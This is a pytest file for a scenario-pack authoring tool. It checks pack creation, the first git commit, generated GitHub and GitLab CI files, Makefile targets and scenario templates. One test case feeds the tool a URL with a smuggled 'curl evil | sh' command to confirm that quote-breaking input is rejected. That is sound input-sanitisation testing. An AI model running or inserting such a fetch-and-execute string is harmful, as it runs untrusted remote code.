"""The authoring library without Docker: new-pack's files and first commit, new's scenarios from
each stack template (loaded by load_scenario, built the way the official pack builds), the
draft's merge, and every refusal leaving the directory as it was."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import git
import pytest
import yaml

from libreplay.authoring import newpack, scaffold, template_files
from libreplay.authoring.scaffold import Answers
from libreplay.core.errors import EnvironmentProblem, InvalidInput, NotFound, ScenarioInvalid
from libreplay.scenario.load import load_scenario

ROOT = Path(__file__).resolve().parents[2]
OFFICIAL = ROOT / "packs" / "official"
ANSWERS = Answers(title="Checkout answers 503", page="checkout is failing for everyone since 10:02")


def listing(directory: Path) -> list[str]:
    return sorted(str(p.relative_to(directory)) for p in directory.rglob("*"))


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    return newpack.create_pack(tmp_path / "pack").directory


# -- new-pack ------------------------------------------------------------------------------------


def test_new_pack_writes_its_files_and_makes_the_first_commit(tmp_path: Path) -> None:
    made = newpack.create_pack(tmp_path / "deep" / "er" / "pack")  # missing parents are made
    assert made.directory == tmp_path / "deep" / "er" / "pack"
    files = {".gitignore", ".gitlab-ci.yml", ".github/workflows/replaybook.yml", "Makefile", "README.md"}
    assert {p for p in listing(made.directory) if not p.startswith(".git/") and p != ".git"} >= files
    repo = git.Repo(made.directory)
    assert repo.head.commit.hexsha == made.commit
    committed = [item.path for item in repo.head.commit.tree.traverse() if item.type == "blob"]
    assert sorted(committed) == sorted(files)
    assert repo.active_branch.name == "main" and not repo.is_dirty(untracked_files=True)
    assert "{{" not in (made.directory / "README.md").read_text()
    assert "# pack\n" in (made.directory / "README.md").read_text()
    assert oct(made.directory.stat().st_mode & 0o777) == oct(0o777 & ~_umask())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_without_a_git_identity_the_first_commit_has_a_named_fallback_author(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for name in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
        monkeypatch.delenv(name, raising=False)
    if Path("/etc/gitconfig").exists() and "user" in Path("/etc/gitconfig").read_text():
        pytest.skip("this machine's system git config names a user")
    made = newpack.create_pack(tmp_path / "pack")
    assert made.fallback_author
    commit = git.Repo(made.directory).head.commit
    assert (commit.author.name, commit.author.email) == newpack.FALLBACK_AUTHOR
    assert (commit.committer.name, commit.committer.email) == newpack.FALLBACK_AUTHOR
    assert list(home.iterdir()) == []  # no git configuration was written
    assert not (made.directory / ".git" / "config").read_text().count("[user]")


def test_an_empty_directory_becomes_the_pack(tmp_path: Path) -> None:
    (tmp_path / "pack").mkdir()
    assert (newpack.create_pack(tmp_path / "pack").directory / "Makefile").is_file()


@pytest.mark.parametrize("occupant", ["file", "non-empty"])
def test_new_pack_refuses_a_file_or_a_non_empty_directory_and_writes_nothing(
    tmp_path: Path, occupant: str
) -> None:
    target = tmp_path / "pack"
    if occupant == "file":
        target.write_text("notes\n")
    else:
        target.mkdir()
        (target / "notes.txt").write_text("mine\n")
    before = listing(tmp_path)
    with pytest.raises(InvalidInput) as refused:
        newpack.create_pack(target)
    assert str(target) in refused.value.message
    assert ("is a file" if occupant == "file" else "is not empty (1 entries)") in refused.value.message
    assert listing(tmp_path) == before


def test_a_failed_first_commit_leaves_nothing_not_even_the_parents_it_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_git(_work_tree: Path) -> tuple[str, bool]:
        raise EnvironmentProblem("git is not installed")

    monkeypatch.setattr(newpack, "_first_commit", no_git)
    with pytest.raises(EnvironmentProblem):
        newpack.create_pack(tmp_path / "new" / "parents" / "pack")
    assert listing(tmp_path) == []


def test_the_ci_files_parse_and_run_replaybook_test_all_on_every_push(pack: Path) -> None:
    github = yaml.safe_load((pack / ".github/workflows/replaybook.yml").read_text())
    assert github.get(True, github.get("on")) == "push"  # YAML 1.1 reads the key `on` as true
    assert "vars.REPLAYBOOK_PIP_SPEC" in github["env"]["REPLAYBOOK_PIP_SPEC"]
    steps = [step.get("run", "") for step in github["jobs"]["scenarios"]["steps"]]
    assert any('pip" install --quiet "$REPLAYBOOK_PIP_SPEC"' in run for run in steps)
    assert "replaybook doctor --fix" in steps and "replaybook test --all ." in steps

    gitlab = yaml.safe_load((pack / ".gitlab-ci.yml").read_text())
    # This checkout's editable install is no use to CI: left empty, and the job asks for it.
    assert gitlab["variables"]["REPLAYBOOK_PIP_SPEC"] == newpack.installed_pip_spec() == ""
    assert github["env"]["REPLAYBOOK_PIP_SPEC"] == "${{ vars.REPLAYBOOK_PIP_SPEC || '' }}"
    assert gitlab["variables"]["DOCKER_HOST"] == "tcp://docker:2376"
    job = gitlab["replaybook-test"]
    assert job["image"] == "docker:27" and job["services"] == ["docker:27-dind"]
    assert any("$REPLAYBOOK_PIP_SPEC" in line for line in job["before_script"])
    assert "replaybook doctor --fix" in job["before_script"]
    assert job["script"][-1] == "replaybook test --all ."


@pytest.mark.parametrize(
    ("direct_url", "spec"),
    [
        ({"url": "https://github.com/acme/replaybook.git", "vcs_info": {"vcs": "git", "commit_id": "4e8"}},
         "git+https://github.com/acme/replaybook.git@4e8"),
        ({"url": "https://files.example/replaybook-0.1.0-py3-none-any.whl", "archive_info": {}},
         "https://files.example/replaybook-0.1.0-py3-none-any.whl"),
        ({"url": "file:///home/me/replaybook", "dir_info": {"editable": True}}, ""),
        ({"url": "https://example/x.whl'; curl evil | sh; '", "archive_info": {}}, ""),
    ],
    ids=["git", "wheel", "local-checkout", "quote-in-url"],
)
def test_the_ci_files_install_replaybook_from_where_it_came(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict[str, object], spec: str
) -> None:
    """PEP 610's direct_url.json says where pip installed replaybook from; a place another
    machine cannot reach (or text that could end the YAML's quotes) leaves the variable empty."""
    from importlib import metadata

    class Installed:
        version = "0.1.0"

        @staticmethod
        def read_text(name: str) -> str | None:
            return json.dumps(direct_url) if name == "direct_url.json" else None

    monkeypatch.setattr(metadata, "distribution", lambda _name: Installed())
    assert newpack.installed_pip_spec() == spec
    made = newpack.create_pack(tmp_path / "pack").directory
    gitlab = yaml.safe_load((made / ".gitlab-ci.yml").read_text())
    assert gitlab["variables"]["REPLAYBOOK_PIP_SPEC"] == spec


def test_a_release_from_an_index_is_pinned_to_its_version(monkeypatch: pytest.MonkeyPatch) -> None:
    from importlib import metadata

    class Installed:
        version = "0.3.1"

        @staticmethod
        def read_text(_name: str) -> str | None:
            return None  # no direct_url.json: installed from a package index

    monkeypatch.setattr(metadata, "distribution", lambda _name: Installed())
    assert newpack.installed_pip_spec() == "replaybook==0.3.1"


def _make(pack: Path, *args: str) -> subprocess.CompletedProcess[str]:
    argv = ["make", "-C", str(pack), "--no-print-directory", "REPLAYBOOK=echo replaybook", *args]
    return subprocess.run(argv, capture_output=True, text=True, check=False, timeout=30)


def test_the_makefile_drives_replaybook_and_asks_for_an_id_where_one_is_needed(pack: Path) -> None:
    assert "make validate" in _make(pack).stdout  # help is the default target
    assert _make(pack, "test").stdout.strip() == "no scenario yet: make new ID=<id>"
    scaffold.create_scenario(pack, "001-first", ANSWERS)
    expected = {
        ("validate",): "replaybook validate .",
        ("test",): "replaybook test --all .",
        ("test-one", "ID=001-first"): "replaybook test ./001-first",
        ("play", "ID=001-first"): "replaybook run ./001-first",
        ("dev", "ID=001-first"): "replaybook dev ./001-first",
        ("new", "ID=002-next", "TEMPLATE=app-redis"): "replaybook new 002-next --pack . --template app-redis",
        ("new", "ID=002-next", "POSTMORTEM=pm.md"):
            "replaybook new 002-next --pack . --from-postmortem pm.md",
    }
    for args, command in expected.items():
        result = _make(pack, *args)
        assert result.returncode == 0, result.stderr
        assert result.stdout.splitlines()[-1].split() == command.split()
    for target in ("test-one", "play", "dev", "new"):
        result = _make(pack, target)
        assert result.returncode == 2
        assert f"name the scenario: make {target} ID=<" in result.stderr


# -- new: the templates ---------------------------------------------------------------------------

BASE_LINES = re.search(r"```dockerfile\n(.*?)```", (ROOT / "docs/writing-scenarios.md").read_text(), re.S)


def _run_lines(dockerfile: Path) -> list[str]:
    """The RUN instructions as Docker reads them (continuation lines joined)."""
    instructions: list[str] = []
    for line in dockerfile.read_text().splitlines():
        if instructions and instructions[-1].endswith("\\"):
            instructions[-1] += "\n" + line
        elif not line.startswith("#"):
            instructions.append(line)
    return [i for i in instructions if i.startswith(("FROM", "RUN"))]


@pytest.mark.parametrize("template", list(scaffold.TEMPLATES))
def test_each_template_gives_a_scenario_load_scenario_accepts(pack: Path, template: str) -> None:
    made = scaffold.create_scenario(pack, f"001-{template}", Answers(title="T", page="P", template=template))
    assert made.directory == pack / f"001-{template}" and made.template == template
    scenario = load_scenario(made.directory)
    assert (scenario.id, scenario.title, scenario.page) == (f"001-{template}", "T", "P")
    meta = json.loads((made.directory / "meta.json").read_text())
    assert meta["difficulty"] == scaffold.DEFAULT_DIFFICULTY and meta["hold_seconds"] == 10
    assert meta["hints"] and meta["learning_objectives"] and meta["guards"]
    assert set(meta["debrief"]) == {"fix", "why", "follow_ups"}
    assert meta["debrief"]["fix"].startswith("(Author:")
    assert (made.directory / "supervise").read_bytes() == (OFFICIAL / "001-nginx-502/supervise").read_bytes()
    for script in [*made.directory.rglob("*.sh"), made.directory / "supervise"]:
        assert os.access(script, os.X_OK), script
    compose = yaml.safe_load((made.directory / "docker-compose.yml").read_text())
    for name, service in compose["services"].items():
        assert service["init"] is True and "healthcheck" in service and "ports" not in service, name
        assert service["command"][0] == "supervise", name
    readme = (made.directory / "README.md").read_text()
    assert readme.startswith(f"# 001-{template} — T\n") and "{{" not in readme
    assert [p.name for p in pack.iterdir() if p.name.startswith(".new-")] == []


@pytest.mark.parametrize(
    ("template", "official"),
    [("blank", "004-disk-full"), ("nginx-app", "001-nginx-502"), ("app-postgres", "010-pool-exhausted"),
     ("app-redis", "007-redis-oom-eviction")],
)
def test_templates_build_on_the_official_pack_s_own_layers(pack: Path, template: str, official: str) -> None:
    """Byte for byte the same FROM and RUN lines as an official scenario, so Docker's cache is shared."""
    assert BASE_LINES is not None
    base = BASE_LINES.group(1).splitlines()
    ours = _run_lines(template_files.template_root() / "scenario" / template / "Dockerfile")
    theirs = _run_lines(OFFICIAL / official / "Dockerfile")
    assert ours[:2] == base
    shared = 4 if template == "nginx-app" else 3  # 001's nginx line is its third RUN
    assert ours[:shared] == theirs[:shared]


def test_the_templates_follow_the_blind_play_rules() -> None:
    """Check and guard logic on stdin (sh -s with a quoted heredoc), never as an argument."""
    scripts = list((template_files.template_root() / "scenario").rglob("*.sh"))
    assert len(scripts) >= 10
    for script in scripts:
        text = script.read_text()
        assert re.search(r"\b(?:ba)?sh\s+-\w*c\b", text) is None, script
        for line in text.splitlines():
            if "compose exec" in line:
                assert re.search(r"sh -s <<'\w+'$", line), f"{script}: {line}"


def test_answers_fill_meta_json_and_placeholders_stay_where_none_was_given(pack: Path) -> None:
    answers = Answers(
        title="Sessions vanish", page="users logged out at random", template="app-redis", difficulty=4,
        tags=("redis", " memory "), hints=("nudge", "", "answer"), objectives=("read INFO",),
        incident_date="2024-05-02", reference="PM-118", fix="raised maxmemory",
    )
    made = scaffold.create_scenario(pack, "007-sessions", answers)
    meta = json.loads((made.directory / "meta.json").read_text())
    assert list(meta)[:11] == ["id", "title", "page", "difficulty", "sla_minutes", "hold_seconds", "shell",
                               "hints", "tags", "learning_objectives", "source"]
    assert meta["difficulty"] == 4 and meta["tags"] == ["redis", "memory"]
    assert meta["hints"] == ["nudge", "answer"]
    assert meta["learning_objectives"] == ["read INFO"]
    assert meta["source"] == {"incident_date": "2024-05-02", "reference": "PM-118"}
    assert meta["debrief"]["fix"] == "raised maxmemory" and meta["debrief"]["why"].startswith("(Author:")
    assert meta["survive_restart"] == ["redis"]


def test_a_long_or_multi_line_title_is_cut_to_one_line_with_a_note(pack: Path) -> None:
    title = "Checkout " + "very " * 30 + "slow\nsecond line"
    made = scaffold.create_scenario(pack, "x1", Answers(title=title, page="p"))
    meta = json.loads((made.directory / "meta.json").read_text())
    assert len(meta["title"]) <= scaffold.TITLE_LIMIT and "\n" not in meta["title"]
    assert meta["title"].endswith("…") and any("title shortened" in w for w in made.warnings)


# -- new: refusals, nothing written -----------------------------------------------------------------


@pytest.mark.parametrize("bad", ["Bad-Id", "-lead", "with space", "trailing\n", "", "../escape", "ünï"])
def test_an_invalid_id_is_refused_naming_the_rule(pack: Path, bad: str) -> None:
    before = listing(pack)
    with pytest.raises(InvalidInput) as refused:
        scaffold.create_scenario(pack, bad, ANSWERS)
    assert "not a valid scenario id: lowercase letters, digits" in refused.value.message
    assert listing(pack) == before


def test_an_existing_scenario_directory_is_refused(pack: Path) -> None:
    scaffold.create_scenario(pack, "001-first", ANSWERS)
    before = listing(pack)
    with pytest.raises(InvalidInput, match="001-first already exists: choose another ID"):
        scaffold.create_scenario(pack, "001-first", ANSWERS)
    assert listing(pack) == before


def test_what_is_a_pack_directory(tmp_path: Path, pack: Path) -> None:
    with pytest.raises(NotFound, match="no such pack directory"):
        scaffold.pack_directory(tmp_path / "missing")
    (tmp_path / "file").write_text("x")
    with pytest.raises(InvalidInput, match="is a file, not a pack directory"):
        scaffold.pack_directory(tmp_path / "file")
    (tmp_path / "plain").mkdir()
    with pytest.raises(InvalidInput, match="is not a pack: a pack is the root of a git repository"):
        scaffold.pack_directory(tmp_path / "plain")
    made = scaffold.create_scenario(pack, "001-first", ANSWERS)
    with pytest.raises(InvalidInput, match=r"is a scenario \(it has meta.json\), not a pack"):
        scaffold.pack_directory(made.directory)
    assert scaffold.pack_directory(pack) == pack  # a git work tree's root
    (tmp_path / "plain" / "001-moved").mkdir()
    (made.directory / "meta.json").rename(tmp_path / "plain" / "001-moved" / "meta.json")
    assert scaffold.pack_directory(tmp_path / "plain") == tmp_path / "plain"  # it holds a scenario


def test_texts_the_schema_refuses_leave_nothing_behind(pack: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = listing(pack)
    with pytest.raises(InvalidInput, match="--page required"):
        scaffold.create_scenario(pack, "x2", Answers(title="t", page="  \n "))
    monkeypatch.setattr(scaffold, "DEFAULT_DIFFICULTY", 9)  # a value the schema refuses
    with pytest.raises(ScenarioInvalid) as invalid:
        scaffold.create_scenario(pack, "x2", ANSWERS)
    assert str(pack / "x2") in invalid.value.message and "difficulty" in invalid.value.message
    assert ".new-" not in invalid.value.message
    assert listing(pack) == before


def test_a_draft_fills_what_was_not_given_and_given_answers_win() -> None:
    from libreplay.authoring.postmortem import Draft

    draft = Draft(title="Draft title", page="Draft page", hints=("h1",), objectives=("o1",), tags=("t",),
                  incident_date="2024-01-02", reference="pm.md", fix="f", why="w", follow_ups=("u",),
                  warnings=("no timeline",))
    merged = scaffold.with_draft(Answers(title="Mine", hints=("my hint",)), draft)
    assert merged.title == "Mine" and merged.hints == ("my hint",)
    assert merged.page == "Draft page" and merged.objectives == ("o1",) and merged.tags == ("t",)
    assert (merged.incident_date, merged.reference) == ("2024-01-02", "pm.md")
    assert (merged.fix, merged.why, merged.follow_ups) == ("f", "w", ("u",))


@pytest.mark.parametrize(
    ("failure", "expected"),
    [
        (PermissionError(13, "Permission denied"), InvalidInput),
        (OSError(28, "No space left on device"), EnvironmentProblem),
    ],
    ids=["no-permission", "disk-full"],
)
def test_a_pack_that_cannot_be_written_to_gives_a_typed_error_and_leaves_nothing(
    pack: Path, monkeypatch: pytest.MonkeyPatch, failure: OSError, expected: type[Exception]
) -> None:
    before = listing(pack)

    def refuse(*_args: object, **_kwargs: object) -> str:
        raise failure

    monkeypatch.setattr(template_files.shutil, "copyfile", refuse)  # every template file is copied
    with pytest.raises(expected) as raised:
        scaffold.create_scenario(pack, "012-unwritable", ANSWERS)
    assert str(pack) in str(raised.value) and "012-unwritable" in str(raised.value)
    assert listing(pack) == before


def test_a_stop_signal_while_writing_leaves_no_staging_behind(
    pack: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SIGTERM half-way through: Interrupted (exit 143), and the hidden staging is removed."""
    import signal

    from libreplay.core.errors import Interrupted

    before = listing(pack)
    copy = template_files.shutil.copyfile

    def copy_then_stop(source: Path, target: Path) -> Path:
        copied = copy(source, target)
        os.kill(os.getpid(), signal.SIGTERM)
        return Path(copied)

    monkeypatch.setattr(template_files.shutil, "copyfile", copy_then_stop)
    with pytest.raises(Interrupted) as raised:
        scaffold.create_scenario(pack, "013-stopped", ANSWERS)
    assert raised.value.exit_code == 128 + signal.SIGTERM
    assert listing(pack) == before
